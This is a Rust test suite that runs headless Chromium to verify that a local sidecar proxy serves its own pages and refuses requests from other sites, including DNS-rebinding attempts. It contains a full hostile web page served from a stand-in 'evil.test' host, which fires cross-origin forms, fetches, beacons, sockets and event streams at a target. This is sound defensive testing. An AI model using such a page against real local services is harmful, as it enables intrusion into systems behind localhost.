//! A page in headless Chromium uses the sidecar as any server; a page of another site cannot use it at all.

mod common;
mod sidecars;

use std::path::Path;
use std::process::{Child, Command, Stdio};

use sidecars::app::App;
use sidecars::{Way, until};

/// A running Chromium with a profile of its own. Killed when dropped.
struct Chromium(Child);

impl Chromium {
    fn open(folder: &Path, name: &str, url: &str, more: &[&str]) -> Self {
        let mut command = Command::new("chromium");
        command.args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
        ]);
        command.args(["--disable-component-update", "--disable-sync", "--enable-logging=stderr", "--remote-debugging-port=0"]);
        command.arg(format!("--user-data-dir={}", folder.join(name).display())).args(more).arg(url);
        let log = std::fs::File::create(folder.join(format!("{name}.log"))).expect("a log");
        let child = command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(log).spawn();
        Self(child.unwrap_or_else(|e| panic!("cannot run chromium ({e}): install the Debian package `chromium`")))
    }
}

impl Drop for Chromium {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// What a page has told its own application, by asking for `/report?…`.
fn report(app: &App) -> Option<String> {
    app.seen().iter().find_map(|line| Some(line.lines().next()?.strip_prefix("GET /report?")?.to_owned()))
}

fn reported(app: &App) -> String {
    let mut told = None;
    until("the page reports", || {
        told = report(app);
        told.is_some()
    });
    told.expect("a report")
}

#[test]
fn a_page_behind_the_sidecar_works_as_it_is() {
    let way = Way::new(&[], &[]);
    way.app.page(
        "/page",
        "<!doctype html><title>page</title><link rel=stylesheet href=/n/style><img src=/n/image><script>
        (async () => {
            const told = [];
            told.push(await (await fetch('/n/fetched')).text());
            told.push(await (await fetch('/echo', { method: 'POST', body: 'posted' })).text());
            told.push(await new Promise(done => {
                const socket = new WebSocket('ws://' + location.host + '/ws');
                socket.onopen = () => socket.send('spoken');
                socket.onmessage = message => done(message.data);
                socket.onerror = () => done('no-websocket');
            }));
            told.push(await new Promise(done => {
                const events = new EventSource('/events');
                events.onmessage = event => { events.close(); done(event.data.replaceAll(' ', '_')); };
            }));
            told.push((await (await fetch('/big/2000000')).arrayBuffer()).byteLength);
            await fetch('/report?' + told.join(','));
        })().catch(error => fetch('/report?' + encodeURIComponent(error)));
        </script>",
    );
    let _browser = Chromium::open(way.bench.swtpm.dir(), "page", &way.url("/page"), &[]);
    assert_eq!(reported(&way.app), "fetched,posted,spoken,tick_0,2000000");
}

/// All that a page can try, and then a report to where it came from: what it could read, if anything.
fn attack(target: &str) -> String {
    let page = r#"<!doctype html><title>attack</title><iframe name=hidden></iframe>
        <form id=form action="TARGET/attack/form" method=post target=hidden enctype="text/plain"><input name=a value=b></form>
        <form id=query action="TARGET/attack/query" method=get target=hidden2><input name=a value=b></form><iframe name=hidden2></iframe>
        <iframe src="TARGET/attack/frame"></iframe>
        <link rel=stylesheet href="TARGET/attack/style"><link rel=prefetch href="TARGET/attack/prefetch"><script src="TARGET/attack/script"></script>
        <object data="TARGET/attack/object"></object><video src="TARGET/attack/video"></video><script>
        (async () => {
            const read = [];
            const attempt = async (name, work) => { try { read.push(name + '=' + await work()); } catch { } };
            const image = new Image();
            const shown = new Promise(done => { image.onload = image.onerror = done; });
            image.src = 'TARGET/attack/image';
            form.submit(); query.submit();
            navigator.sendBeacon('TARGET/attack/beacon', 'x');
            await attempt('fetch', async () => (await fetch('TARGET/attack/fetch')).text());
            await attempt('post', async () => (await fetch('TARGET/attack/post', { method: 'POST', body: 'x' })).text());
            await attempt('json', async () => (await fetch('TARGET/attack/json', { method: 'PUT', body: '{}', headers: { 'Content-Type': 'application/json' } })).text());
            await attempt('opaque', async () => { await fetch('TARGET/attack/opaque', { mode: 'no-cors', credentials: 'include' }); throw 0; });
            await attempt('socket', () => new Promise((done, failed) => {
                const socket = new WebSocket('TARGET/attack/socket'.replace('http', 'ws'));
                socket.onopen = done; socket.onerror = failed;
            }));
            await attempt('events', () => new Promise((done, failed) => {
                const events = new EventSource('TARGET/attack/events');
                events.onopen = done; events.onerror = () => { events.close(); failed(); };
            }));
            await shown;
            await new Promise(done => setTimeout(done, 500));
            await fetch('/report?' + encodeURIComponent(read.join()));
        })();
        </script>"#;
    page.replace("TARGET", target)
}

#[test]
fn a_page_of_another_site_reaches_nothing_behind_the_sidecar() {
    let way = Way::new(&[], &[]);
    for path in ["script", "image", "fetch", "frame", "form"] {
        way.app.page(&format!("/attack/{path}"), "alert('secret')");
    }
    let port = way.sidecar.port;
    // Where the page comes from, where it thinks that the sidecar is, and how names are resolved for it.
    for (name, site, target, resolved) in [
        ("other-site", "evil.test", format!("http://127.0.0.1:{port}"), "MAP evil.test 127.0.0.1"),
        ("other-port", "127.0.0.1", format!("http://127.0.0.1:{port}"), "MAP evil.test 127.0.0.1"),
        ("localhost", "evil.test", format!("http://localhost:{port}"), "MAP evil.test 127.0.0.1"),
        ("rebound", "evil.test", format!("http://evil.test:{port}"), "MAP evil.test 127.0.0.1"),
        ("rebound-below", "evil.test", format!("http://a.evil.test:{port}"), "MAP *.evil.test 127.0.0.1, MAP evil.test 127.0.0.1"),
    ] {
        let evil = App::start();
        evil.page("/page", &attack(&target));
        let url = format!("http://{site}:{}/page", evil.address.port());
        let _browser = Chromium::open(way.bench.swtpm.dir(), name, &url, &[&format!("--host-resolver-rules={resolved}")]);
        assert_eq!(reported(&evil), "", "{name}");
        let reached: Vec<String> = way.app.seen().into_iter().filter(|line| line.contains("/attack/")).collect();
        assert!(reached.is_empty(), "{name}: {reached:#?}");
    }
}

/// What the tests above and below are worth: an application that asks nobody where a request comes from is reached in all these ways.
#[test]
fn the_attacks_reach_an_application_that_nothing_stands_before() {
    let (victim, evil) = (App::start(), App::start());
    evil.page("/page", &attack(&victim.url()));
    let folder = tempfile::tempdir().expect("a folder");
    let url = format!("http://evil.test:{}/page", evil.address.port());
    let _browser = Chromium::open(folder.path(), "control", &url, &["--host-resolver-rules=MAP evil.test 127.0.0.1"]);
    // Chromium itself keeps what it reads from the page.
    assert_eq!(reported(&evil), "");
    let seen = victim.seen().concat();
    for way in
        ["form", "query", "frame", "style", "script", "object", "video", "image", "beacon", "fetch", "post", "opaque", "socket", "events"]
    {
        assert!(seen.contains(&format!("/attack/{way}")), "{way} is no attack: {seen}");
    }
}

#[test]
fn a_name_that_was_rebound_to_this_machine_shows_nothing_even_to_itself() {
    // As after a rebinding: the page's own origin is what now leads to the sidecar, so the browser holds it to be of the same site.
    let way = Way::new(&[], &[]);
    way.app.page("/attack/page", "<!doctype html><script>fetch('/report?reached')</script>");
    let url = format!("http://evil.test:{}/attack/page", way.sidecar.port);
    let _browser = Chromium::open(way.bench.swtpm.dir(), "rebound", &url, &["--host-resolver-rules=MAP evil.test 127.0.0.1"]);
    until("the sidecar refuses it", || way.sidecar.log().contains("GET /attack/page -> 421"));
    assert_eq!(way.app.seen(), Vec::<String>::new());
}
